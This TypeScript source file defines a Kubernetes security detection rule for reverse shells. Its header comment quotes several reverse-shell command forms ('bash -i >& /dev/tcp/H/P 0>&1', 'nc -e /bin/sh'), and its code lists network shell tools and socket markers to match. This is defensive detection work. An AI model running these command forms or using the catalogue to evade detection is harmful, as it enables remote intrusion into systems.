/**
 * K8S.NODE_ReverseShell — a shell wired to a network peer, in a container or on the node:
 * - bash/sh redirections to /dev/tcp or /dev/udp that also take the shell's input from the socket
 *   (`bash -i >& /dev/tcp/H/P 0>&1`, `exec 5<>/dev/tcp/H/P; cat <&5 | …`) — an output-only write
 *   (`echo > /dev/tcp/db/5432`, wait-for-it style readiness checks) is not a shell;
 * - netcat family told to run a shell (`nc -e /bin/sh`, `ncat --sh-exec bash`, `busybox nc -e`);
 * - a network client and a shell joined by pipes (the mkfifo, telnet-to-telnet and openssl
 *   s_client forms);
 * - socat joining a network address to EXEC/SYSTEM of a shell;
 * - interpreter one-liners that open a socket and hand it to a shell (python, perl, php, ruby,
 *   node, lua, awk /inet/tcp);
 * - behaviourally, a shell process that itself connects to a non-loopback address: shells make no
 *   connections of their own except through /dev/tcp (DNS lookups on port 53 aside, which come
 *   before the real connection).
 * Relays that run another network client instead of a shell are port forwarding, not this type.
 * Targets on loopback are ignored for the /dev/tcp and behavioural forms only.
 */
import { defineDetection } from '../../engine/detection.js';
import type { NetConnectEvent, ProcessExecEvent } from '../../events/model.js';
import { isLoopback, isRemoteConnect } from './lib/network.js';
import { entitiesOf, placeOf } from './lib/process.js';
import { commandName, commandsOf, isShellProcess, SHELL_NAMES, type SimpleCommand, unwrap } from './lib/shells.js';

const NETCATS = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'pwncat']);
/** Network clients that carry a shell's input and output in pipe forms. */
const PIPE_CLIENTS = new Set([...NETCATS, 'telnet', 'socat', 'openssl', 'cryptcat', 'sbd']);
const INTERPRETER_PREFIXES = ['python', 'perl', 'php', 'ruby', 'node', 'nodejs', 'lua', 'awk', 'gawk', 'mawk', 'nawk', 'jrunscript', 'tclsh', 'pwsh', 'powershell'];
/** Inline code opening a network connection. */
const SOCKET_MARKERS = ['socket', 'fsockopen', 'tcpsocket', 'net.socket', 'net.connect', 'createconnection', '/inet/tcp/', '/inet/udp/', 'io::socket', 'stream_socket_client', 'tcpclient'];
/** Inline code handing that connection to a shell. */
const SHELL_MARKERS = ['dup2', 'pty.spawn', '/bin/sh', '/bin/bash', '/bin/ash', '/bin/zsh', "'sh'", '"sh"', "'bash'", '"bash"', 'sh -i', 'bash -i', 'cmd.exe', 'powershell', 'getline'];
/** Redirections that feed the shell's input from the socket (not just write to it). */
const INPUT_FROM_SOCKET = ['0>&', '<&', '<>'];

interface Hit {
  form: string;
  target?: string;
}

function devTcpTarget(text: string): string | undefined {
  for (const dev of ['/dev/tcp/', '/dev/udp/']) {
    const at = text.indexOf(dev);
    if (at < 0) continue;
    const rest = text.slice(at + dev.length, at + dev.length + 300);
    const slash = rest.indexOf('/');
    if (slash <= 0) continue;
    let end = slash + 1;
    while (end < rest.length && rest[end]! >= '0' && rest[end]! <= '9') end++;
    return `${rest.slice(0, slash)}:${rest.slice(slash + 1, end)}`;
  }
  return undefined;
}

function targetOf(words: readonly string[]): string | undefined {
  const real = unwrap(words);
  const operands = real.slice(1).filter((w) => !w.startsWith('-') && !w.includes('/'));
  if (operands.length >= 2 && /^[0-9]{1,5}$/.test(operands[operands.length - 1]!)) return `${operands[operands.length - 2]}:${operands[operands.length - 1]}`;
  return operands[0];
}

function isShellWord(word: string): boolean {
  const w = word.replace(/^['"]|['"]$/g, '').trim();
  const first = w.split(' ')[0] ?? '';
  const name = first.slice(first.lastIndexOf('/') + 1);
  return SHELL_NAMES.has(name) || name === 'cmd.exe' || name === 'powershell' || name === 'pwsh';
}

function devTcpShell(commands: readonly SimpleCommand[], script: string): Hit | undefined {
  const target = devTcpTarget(script);
  if (!target || isLoopback(target.split(':')[0]!)) return undefined;
  const interactive = commands.some((c) => SHELL_NAMES.has(commandName(c.words)) && c.words.some((w) => w === '-i' || w === '-li' || w === '-il'));
  const readsSocket = INPUT_FROM_SOCKET.some((r) => script.includes(r));
  return interactive || readsSocket ? { form: script.includes('/dev/udp/') ? '/dev/udp redirection' : '/dev/tcp redirection', target } : undefined;
}

function netcatExec(command: SimpleCommand): Hit | undefined {
  const real = unwrap(command.words);
  if (!NETCATS.has(commandName(real))) return undefined;
  for (let i = 1; i < real.length; i++) {
    const w = real[i]!;
    let program: string | undefined;
    if (w === '-e' || w === '-c' || w === '--exec' || w === '--sh-exec' || w === '--lua-exec') program = real[i + 1];
    else if (w.startsWith('--exec=') || w.startsWith('--sh-exec=')) program = w.slice(w.indexOf('=') + 1);
    else if (w.startsWith('-e') && w.length > 2 && !w.startsWith('--')) program = w.slice(2);
    if (program !== undefined && isShellWord(program)) return { form: `${commandName(real)} running a shell`, target: targetOf(real.filter((x) => x !== program)) };
  }
  return undefined;
}

function socatShell(command: SimpleCommand): Hit | undefined {
  const real = unwrap(command.words);
  if (commandName(real) !== 'socat') return undefined;
  const addresses = real.slice(1).filter((w) => !w.startsWith('-') || w === '-');
  const lower = addresses.map((a) => a.toLowerCase());
  const shell = lower.find((a) => (a.startsWith('exec:') || a.startsWith('system:')) && isShellWord(a.slice(a.indexOf(':') + 1)));
  const network = lower.find((a) => /^(tcp|tcp4|tcp6|udp|udp4|udp6|openssl|ssl|sctp)(-listen|-connect)?:/.test(a));
  return shell && network ? { form: 'socat exec of a shell', target: network.slice(network.indexOf(':') + 1).split(',')[0] } : undefined;
}

function pipedShell(commands: readonly SimpleCommand[]): Hit | undefined {
  // Walk each pipeline (commands joined by '|') for a network client and a shell in it.
  let client: SimpleCommand | undefined;
  let shell = false;
  for (const c of commands) {
    if (c.joinedBy !== '|') {
      client = undefined;
      shell = false;
    }
    const name = commandName(c.words);
    const real = unwrap(c.words);
    if (PIPE_CLIENTS.has(name) && (name !== 'openssl' || real.includes('s_client'))) client ??= c;
    else if (SHELL_NAMES.has(name) && !real.some((w) => w === '-c' || (w.startsWith('-') && !w.startsWith('--') && w.includes('c')))) shell = true;
    if (client && shell) return { form: `shell piped through ${commandName(client.words)}`, target: targetOf(client.words) };
  }
  return undefined;
}

function interpreterShell(command: SimpleCommand): Hit | undefined {
  const name = commandName(command.words);
  if (!INTERPRETER_PREFIXES.some((p) => name === p || (name.startsWith(p) && /^[0-9.]+$/.test(name.slice(p.length))))) return undefined;
  const code = command.text.toLowerCase();
  if (!SOCKET_MARKERS.some((m) => code.includes(m))) return undefined;
  if (!SHELL_MARKERS.some((m) => code.includes(m))) return undefined;
  return { form: `${name} one-liner` };
}

function execHit(event: ProcessExecEvent): Hit | undefined {
  const commands = commandsOf(event.process);
  const script = commands.slice(1).map((c) => c.text).join('\n') || commands[0]!.text;
  const devTcp = devTcpShell(commands, script);
  if (devTcp) return devTcp;
  for (const c of commands) {
    const hit = netcatExec(c) ?? socatShell(c) ?? interpreterShell(c);
    if (hit) return hit;
  }
  return pipedShell(commands.slice(1));
}

function connectHit(event: NetConnectEvent): Hit | undefined {
  if (!isShellProcess(event.process) || !isRemoteConnect(event) || event.remotePort === 53) return undefined;
  return { form: 'shell connecting out', target: `${event.remoteAddress}:${event.remotePort ?? '?'}` };
}

export default defineDetection({
  type: 'K8S.NODE_ReverseShell',
  kinds: ['process.exec', 'net.connect'],
  summary: 'Reverse shell ({form}) to {target} in {place}: {commandLine}',
  screen: {
    // /dev/tcp and /dev/udp
    anyOf: ['/tcp/', '/udp/'],
    // the netcat family, socat and the other pipe clients, compared as whole program names
    words: [...PIPE_CLIENTS],
    // an interpreter whose inline code opens a socket
    allOf: [[INTERPRETER_PREFIXES, ['socket', 'fsockopen', 'createconnection', 'net.connect', '/inet/', 'tcpclient']]],
  },
  detect(event) {
    const hit = event.kind === 'process.exec' ? execHit(event) : connectHit(event);
    if (!hit) return undefined;
    const c = event.container;
    return {
      entities: { ...entitiesOf(event), remoteAddress: hit.target },
      facts: { form: hit.form, target: hit.target ?? 'an unknown peer', place: placeOf(event), commandLine: event.process.commandLine },
      key: [event.cluster, event.node, c?.id, 'reverse-shell', hit.target ?? event.process.executable].join('|'),
    };
  },
});
